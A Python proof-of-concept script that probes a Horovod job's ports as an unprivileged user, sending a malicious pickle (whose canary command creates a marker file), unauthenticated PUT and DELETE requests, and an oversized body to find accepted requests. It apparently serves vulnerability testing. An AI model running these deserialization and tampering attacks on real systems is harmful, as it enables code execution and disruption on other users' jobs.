"""What another user can do at the ports of a job: `python stranger.py REACHED PORT ...`, as a user without rights.

It prints as JSON the answers that are not refusals, and the bytes that were accepted.
"""

from __future__ import annotations

import base64
import json
import pickle
import socket
import struct
import subprocess
import sys

HUGE = 300 * 2**20
KEYS = ["127.0.0.1:0", "0"]
SCOPES = ["worker_addresses", "rank_and_size", "place", "global", "local_127.0.0.1", "cross_0", "runfunc"]


class Evil:
    def __reduce__(self):  # type: ignore[no-untyped-def]
        return subprocess.check_call, (["touch", sys.argv[1]],)


def request(host: str, port: int, head: str, body: bytes = b"") -> tuple[str, int]:
    """Return the first line of the answer, and how many bytes of the body could be sent."""
    sent = 0
    try:
        with socket.create_connection((host, port), timeout=2) as connection:
            try:
                connection.sendall(f"{head} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n".encode())
                for at in range(0, len(body), 65536):
                    connection.sendall(body[at : at + 65536])
                    sent = at + 65536
            except OSError:
                pass  # it does not listen any more: what it said is still there
            return connection.recv(65536).partition(b"\r\n")[0].decode(errors="replace"), sent
    except OSError:
        return "", sent


def attack(host: str, port: int) -> list[str]:
    data = pickle.dumps(Evil())
    if "HTTP" not in request(host, port, "GET /global/0")[0]:
        speak(host, port, data)
        return []
    got = []
    for scope in SCOPES:
        for key in KEYS:
            for path in (f"/{scope}/{key}", f"/{'0' * 32}:{port}/{scope}/{key}", f"//{scope}/{key}"):
                for head, body in (
                    (f"GET {path}", b""),
                    (f"PUT {path}", base64.b64encode(data)),
                    (f"DELETE {path}", b""),
                ):
                    answer, _ = request(host, port, head, body)
                    if "HTTP" not in answer or " 200 " in answer:
                        got.append(f"{head}: {answer}")
    answer, sent = request(host, port, "PUT /worker_addresses/127.0.0.1:0", bytes(HUGE))
    if sent > HUGE / 10:
        got.append(f"took {sent} bytes: {answer}")
    return got


def speak(host: str, port: int, data: bytes) -> None:
    """Send a message to Horovod's other services: a digest, a length, and the message."""
    for length in (2**31 - 1, len(data)):
        try:
            with socket.create_connection((host, port), timeout=2) as connection:
                connection.sendall(bytes(32) + struct.pack("i", length) + data)
                connection.recv(100)
        except OSError:
            pass


places = [each.split(":") for each in sys.argv[2:]]
print(json.dumps([found for host, port in places for found in attack(host, int(port))]))
